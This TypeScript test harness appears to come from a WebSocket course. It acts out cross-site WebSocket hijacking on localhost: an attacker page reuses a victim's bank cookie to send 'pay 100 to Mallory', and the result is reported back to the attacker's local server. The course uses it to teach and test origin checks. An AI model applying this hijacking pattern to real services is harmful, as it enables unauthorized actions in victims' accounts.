/** Cross-site WebSocket hijacking, played: a bank, an attacker's site, and a victim's browser between them. */

import { once } from 'node:events';
import { connect as connectTcp } from 'node:net';
import type { BrowserContext, Page } from 'playwright-core';
import { type Place, startAttacker } from '../../lessons/16-origin/attacker.ts';
import { type BankOptions, startBank } from '../../lessons/16-origin/bank.ts';
import { concat, toLatin1 } from '../../src/bytes.ts';
import type { Recording } from '../../src/course/recording.ts';
import { WebSocketError } from '../../src/errors.ts';
import { connect } from '../../src/node/index.ts';
import { type Said, startRecorder } from './recorder.ts';

/** What the attacker's page tells the bank. */
const ORDER = 'pay 100 to Mallory';
/** What the bank says when it has done that. */
const PAID = /^read: paid/;

export interface Hijack extends Pick<BankOptions, 'allowOrigins' | 'attributes'> {
  /** The host of the attacker's page, which stands on another port than the bank. */
  readonly host: string;
  readonly place?: Place;
  /** Ports; any if not given. */
  readonly bankPort?: number;
  readonly attackerPort?: number;
}

export interface Hijacked {
  readonly seen: Recording['seen'];
  /** The WebSocket of the bank's own page, and that of the attacker's. */
  readonly own: readonly Said[];
  readonly attack: readonly Said[];
}

/** Somebody in whose browser all of this happens. */
type Victim = (addresses: { readonly bank: string; readonly bankPort: number; readonly attacker: string }) => Promise<{
  /** Reports what the browser says, and goes home. */
  leave(): Promise<readonly string[]>;
}>;

/** The victim has this browser. @param profile  of one that knows where `bank.localhost` is, as all browsers of today do */
export function hijackIn(profile: BrowserContext, hijack: Hijack): Promise<Hijacked> {
  return play(hijack, async ({ bank, attacker }) => {
    const page = await profile.newPage();
    const lines: string[] = [];
    page.on('console', (message) => lines.push(message.text()));
    await page.goto(`${bank}/login`);
    await untilAnswered(page);
    lines.length = 0;
    await page.goto(attacker);
    return {
      leave: async () => {
        await page.close();
        await profile.clearCookies();
        return lines;
      },
    };
  });
}

/** The bank's own page has heard whether it is let in. */
async function untilAnswered(page: Page): Promise<void> {
  await page.waitForFunction(() => document.getElementById('account')?.textContent !== '…');
}

/** The victim has a browser of 2010: a client of ours, which sends what such a browser sent. */
export function hijackOf2010(hijack: Hijack): Promise<Hijacked> {
  return play(hijack, async ({ bank, bankPort, attacker }) => {
    const response = await fetch(`http://127.0.0.1:${bankPort}/login`);
    const cookie = response.headers.get('set-cookie')?.split(';')[0] ?? '';
    const [account, site] = [`${bank.replace('http:', 'ws:')}/account`, new URL(attacker).origin];
    const toBank = async (origin: string) =>
      connect(account, {
        speak: 'hixie-76',
        origin,
        headers: { Cookie: cookie },
        createConnection: () => connectTcp(bankPort, '127.0.0.1'),
      });
    const ofBank = await toBank(bank);
    await once(ofBank, 'message');
    ofBank.close();
    const lines: string[] = [];
    const report = (body: string) => fetch(`http://127.0.0.1:${new URL(attacker).port}/`, { method: 'POST', body });
    try {
      const socket = await toBank(site);
      socket.on('message', (message) => void report(`read: ${String(message)}`));
      socket.send(ORDER);
    } catch (error) {
      if (!(error instanceof WebSocketError)) throw error;
      lines.push(error.message);
      await report('closed');
    }
    return { leave: async () => lines };
  });
}

async function play(hijack: Hijack, victim: Victim): Promise<Hijacked> {
  const seen: { where: string; line: string }[] = [];
  const { allowOrigins, attributes = '' } = hijack;
  const policy = allowOrigins === undefined ? {} : { allowOrigins };
  const bank = await startBank({ ...policy, attributes, log: (line) => seen.push({ where: 'bank', line }) });
  const recorder = await startRecorder(hijack.bankPort ?? 0, Number(new URL(bank.url).port));
  const address = `http://bank.localhost:${recorder.port}`;
  let tell = () => {};
  const isOver = new Promise<void>((resolve) => {
    tell = resolve;
  });
  const account = `${address.replace('http:', 'ws:')}/account`;
  const attacker = await startAttacker(hijack.attackerPort ?? 0, account, ORDER, (line) => {
    seen.push({ where: 'attacker', line });
    if (PAID.test(line) || line.startsWith('closed')) tell();
  });
  try {
    const page = `http://${hijack.host}:${attacker.port}${hijack.place ?? '/'}`;
    const { leave } = await victim({ bank: address, bankPort: recorder.port, attacker: page });
    await isOver;
    const [own = [], ...others] = recorder.connections.filter(isWebSocket).map((said) => [...said]);
    const console = (await leave()).map((line) => ({ where: 'console', line }));
    return { seen: [...seen, ...console], own, attack: others.at(-1) ?? [] };
  } finally {
    attacker.close();
    await recorder.close();
    await bank.close();
  }
}

function isWebSocket(said: readonly Said[]): boolean {
  const asked = concat(said.filter(({ from }) => from === 'client').map(({ bytes }) => bytes));
  return /^Upgrade: websocket\r$/im.test(toLatin1(asked));
}
